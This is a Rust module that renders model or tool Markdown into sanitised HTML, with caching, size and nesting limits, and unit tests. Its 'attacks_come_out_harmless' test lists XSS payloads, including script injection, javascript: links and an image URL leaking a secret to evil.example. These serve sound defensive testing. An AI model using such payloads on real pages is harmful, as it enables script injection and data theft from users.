//! Markdown of a model or a tool → HTML that is safe to put into the page.
//!
//! Two walls: raw HTML in the text is shown as text, and what comes out is sanitised against a short list all the
//! same. No image is loaded, since its address could carry away what the model read; it becomes a link.

mod cjk;
mod links;
mod preprocess;

use ammonia::Builder;
use nexus_model::digest::sha256;
use nexus_model::limits;
use pulldown_cmark::{Event, Options, Parser, TextMergeStream, html};
use std::collections::{HashMap, HashSet};
use std::sync::{Arc, LazyLock, Mutex, PoisonError};

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank");
    builder
});

const OPTIONS: Options = Options::ENABLE_TABLES
    .union(Options::ENABLE_STRIKETHROUGH)
    .union(Options::ENABLE_TASKLISTS)
    .union(Options::ENABLE_FOOTNOTES);

/// Renders and sanitizes; `None` where the text is too long or too deeply nested to be worth it.
pub fn render(text: &str) -> Option<String> {
    if text.len() > limits::MARKDOWN_BYTES {
        return None;
    }
    let (text, aside) = preprocess::prepare(text);
    let (mut depth, mut deepest) = (0_usize, 0);
    let shallow = Parser::new_ext(&text, OPTIONS).take_while(|event| {
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
        deepest = deepest.max(depth);
        deepest <= limits::MARKDOWN_DEPTH
    });
    let mut shaper = preprocess::Shaper::new(aside);
    TextMergeStream::new(shallow).for_each(|event| shaper.push(event));
    if deepest > limits::MARKDOWN_DEPTH {
        return None;
    }
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, shaper.finish().into_iter());
    Some(SANITIZER.clean(&out).to_string())
}

/// `complete_blocks` is how many bytes of a text that still grows are blocks that nothing behind them changes: all but the last
/// one. `None`: there are none.
pub(crate) fn complete_blocks(text: &str) -> Option<usize> {
    if text.len() > limits::MARKDOWN_BYTES || in_open_fence(text) {
        return None;
    }
    let (mut depth, mut last) = (0_usize, 0);
    for (event, range) in Parser::new_ext(text, OPTIONS).into_offset_iter() {
        let begins = depth == 0;
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => {
                depth = depth.saturating_sub(1);
                continue;
            }
            _ => {}
        }
        if begins {
            last = range.start;
        }
    }
    // What is before the first block is no block.
    (last > 0 && !text.get(..last)?.trim().is_empty()).then_some(last)
}

/// A fenced block is the first one, and its end has not come.
fn in_open_fence(text: &str) -> bool {
    let fence = |line: &str| {
        let line = line.trim_end();
        let rest = line.trim_start_matches(' ');
        let mark = rest.chars().next().filter(|mark| matches!(mark, '`' | '~'))?;
        let length = rest.chars().take_while(|other| *other == mark).count();
        (line.len() - rest.len() < 4 && length >= 3).then_some((mark, length, rest.len() == length))
    };
    let mut lines = text.lines().skip_while(|line| line.trim().is_empty());
    let Some((mark, length, _)) = lines.next().and_then(fence) else {
        return false;
    };
    !lines.any(|line| fence(line).is_some_and(|(m, n, bare)| m == mark && n >= length && bare))
}

/// `Renderer` does [`render`] once for each text: every tab and every reload asks for the same parts. Its clones share
/// what it keeps.
#[derive(Clone, Default)]
pub struct Renderer(Arc<Mutex<Cache>>);

#[derive(Default)]
struct Cache {
    html: HashMap<[u8; 32], Arc<str>>,
    bytes: usize,
}

impl Renderer {
    /// `html` is the rendered text, kept up to [`nexus_model::limits::MARKDOWN_CACHE`] bytes; `None` as for [`render`].
    pub fn html(&self, text: &str) -> Option<Arc<str>> {
        let key = sha256(&[text.as_bytes()]);
        if let Some(html) = self.cache().html.get(&key) {
            return Some(Arc::clone(html));
        }
        let html: Arc<str> = render(text)?.into();
        let mut cache = self.cache();
        if cache.bytes + html.len() > limits::MARKDOWN_CACHE {
            *cache = Cache::default();
        }
        cache.bytes += html.len();
        cache.html.insert(key, Arc::clone(&html));
        Some(html)
    }

    fn cache(&self) -> std::sync::MutexGuard<'_, Cache> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn endless_nesting_stays_text_and_takes_little_time() {
        // On any machine, and beside whatever else it does: against a text of the same length that is nested in nothing.
        let cost = |text: &str| {
            let begun = std::time::Instant::now();
            (render(text), begun.elapsed())
        };
        let (_, plain) = cost(&"word ".repeat(40_000));
        for deep in [
            ">".repeat(200_000) + " x",
            "- ".repeat(2_000) + "x",
            "[".repeat(100_000),
        ] {
            let (html, took) = cost(&deep);
            assert!(took < 100 * plain, "{took:?}, and a plain text takes {plain:?}");
            assert!(html.is_none_or(|html| !html.contains(&"<blockquote>".repeat(65))));
        }
        assert_eq!(render(&(">".repeat(200_000) + " x")), None);
        assert!(render("> > - quoted").is_some());
    }

    #[test]
    fn what_is_kept_of_rendered_texts_has_an_end() {
        let renderer = Renderer::default();
        for n in 0..100 {
            let html = renderer.html(&format!("{n} {}", "x".repeat(200_000))).unwrap();
            assert!(html.len() > 200_000);
            let cache = renderer.cache();
            let held: usize = cache.html.values().map(|html| html.len()).sum();
            assert_eq!(held, cache.bytes);
            assert!(held <= limits::MARKDOWN_CACHE, "{held}");
        }
    }

    #[test]
    fn a_formula_and_a_bare_address_have_an_end() {
        let html = |text: String| render(&text).unwrap();
        // Within a formula an asterisk is one.
        let formula = |length: usize| html(format!("$x*a*{}$", "x".repeat(length)));
        assert!(!formula(100).contains("<em>") && formula(limits::MARKDOWN_FORMULA + 1).contains("<em>"));
        let linked = |length: usize| html(format!("https://example.org/{}", "x".repeat(length)));
        assert!(linked(100).contains("<a "));
        let longest = linked(limits::MARKDOWN_ADDRESS * 4);
        let address = longest.split("href=\"").nth(1).and_then(|rest| rest.split('"').next());
        assert!(
            address.is_none_or(|address| address.len() <= limits::MARKDOWN_ADDRESS),
            "{}",
            longest.len()
        );
    }

    #[test]
    fn blocks_are_complete_once_another_one_has_begun() {
        let complete = |text: &str| complete_blocks(text).map(|at| text.get(..at).unwrap().to_owned());
        for open in [
            "",
            "\n\n",
            "One paragraph",
            "One\nparagraph\n\n",
            "- one\n- two\n\n",
            "```rust\nfn main() {\n\n}\n",
            "  ~~~\na\n\n```\n\nb\n",
        ] {
            assert_eq!(complete(open), None, "{open:?}");
        }
        for (text, blocks) in [
            ("# Title\n\nSome", "# Title\n\n"),
            ("one\n\ntwo\n\nthree", "one\n\ntwo\n\n"),
            ("- one\n\n  more\n- two\n\nend", "- one\n\n  more\n- two\n\n"),
            ("```\ncode\n```\nend", "```\ncode\n```\n"),
            ("```\ncode\n```\n~~~\nopen\n", "```\ncode\n```\n"),
            ("a\n\n---\n", "a\n\n"),
            ("| a |\n|---|\n| b |\n\nend", "| a |\n|---|\n| b |\n\n"),
        ] {
            assert_eq!(complete(text).as_deref(), Some(blocks), "{text:?}");
        }
    }

    /// Where nothing refers to anything, the blocks that came one by one are the whole.
    #[test]
    fn blocks_that_are_rendered_one_by_one_are_those_of_the_whole() {
        let text = "# Title\n\nSome **bold** text\nin two lines.\n\n- one\n- two\n\n```rust\nfn main() {}\n\n```\n\n> quote\n> more\n\n\
            | a | b |\n|---|---|\n| 1 | 2 |\n\nThe end, with $x^2$ and https://example.com.\n";
        let (mut tail, mut html) = (String::new(), String::new());
        for letter in text.chars() {
            tail.push(letter);
            if letter == '\n'
                && let Some(at) = complete_blocks(&tail)
            {
                html.push_str(&render(tail.get(..at).unwrap()).unwrap());
                tail.drain(..at);
            }
        }
        html.push_str(&render(&tail).unwrap());
        assert_eq!(html, render(text).unwrap());
    }

    #[test]
    fn ordinary_markdown_becomes_html() {
        let html = render(
            "# Title\n\nSome **bold** `code`.\n\n- [x] done\n\n| a |\n|---|\n| b |\n\n```rust\nfn f<T>() {}\n```",
        )
        .unwrap();
        for want in [
            "<h3>Title</h3>",
            "<strong>bold</strong>",
            "☑ done",
            "<td>b</td>",
            "<pre><code>fn f&lt;T&gt;() {}\n</code></pre>",
        ] {
            assert!(html.contains(want), "{want} in {html}");
        }
    }

    #[test]
    fn attacks_come_out_harmless() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?secret)",
            "![x](javascript:alert(1))",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&#58;alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](//evil.example \" onmouseover=alert(1)\")",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "`<b onclick=alert(1)>`",
            "```\"><script>alert(1)</script>\nx\n```",
            "<style>*{background:url(https://evil.example)}</style>",
            "<form action=https://evil.example><input name=p></form>",
            "<https://evil.example/\"onclick=alert(1)>",
        ];
        for attack in attacks {
            let html = render(attack).unwrap();
            // Whatever is left in angle brackets is one of ours, with none but these attributes.
            for tag in html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()) {
                let name = tag.trim_start_matches('/').split(' ').next().unwrap();
                assert!(["p", "a", "code", "pre", "br"].contains(&name), "{attack} → {html}");
                assert!(
                    !tag.contains("javascript:") && !tag.contains("data:"),
                    "{attack} → {html}"
                );
                let attributes = tag.split('"').step_by(2).collect::<String>();
                assert!(
                    !attributes.contains(" on") && !attributes.contains("src"),
                    "{attack} → {html}"
                );
            }
        }
    }

    #[test]
    fn links_leave_no_trace_and_open_elsewhere() {
        let html = render("[a](https://example.org)").unwrap();
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\"") && html.contains("target=\"_blank\""),
            "{html}"
        );
    }

    #[test]
    fn a_text_that_is_too_long_stays_text() {
        assert_eq!(render(&"a".repeat(limits::MARKDOWN_BYTES + 1)), None);
    }
}
